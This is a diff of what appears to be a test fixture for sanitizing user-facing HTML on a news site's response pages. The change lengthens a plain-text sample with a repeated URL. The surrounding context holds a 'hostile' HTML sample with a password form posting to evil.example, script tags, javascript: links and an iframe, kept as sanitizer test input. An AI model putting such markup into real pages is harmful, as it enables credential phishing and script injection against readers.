@@ -21,7 +21,7 @@ const paragraphs =
   '<p><strong>Thank you, you helped draw the map.</strong></p><p>Two reporters read every response. We ask you before we quote you.</p>'
 const hostile =
   '<p style="text-align:center;position:fixed" class="x" id="app">Words <mark>stay</mark></p><form action="https://evil.example">Your password:<input name="password"><button>Log in</button></form><script>x()</script><noscript>none</noscript><svg><a href="javascript:x()">drawn</a></svg><iframe src="https://evil.example"></iframe><img src="data:image/png;base64,AA"><a href="java\nscript:x()">one</a> <a href="https://harbourpost.test" target="_self">other</a><!-- gone -->'
-const plain = 'Good to have you here.\n\nThree lines\nof one <b>paragraph</b>\nfollow.'
+const plain = `Good to have you here.\n\nThree lines\nof one <b>paragraph</b>\nfollow.\n\nhttps://harbourpost.test/${'the-whole-story-'.repeat(6)}`
 const stored: StoredImage = { url: picture('#17324a'), name: 'quay.jpg', isImage: true, alt: 'The quay under water' }
 const report: StoredFile = { url: 'data:text/plain,report', name: 'flood-report.pdf', size: 2_400_000 }
 const photo = { name: 'cellar.jpg', size: 4_100_000, type: 'image/jpeg' }
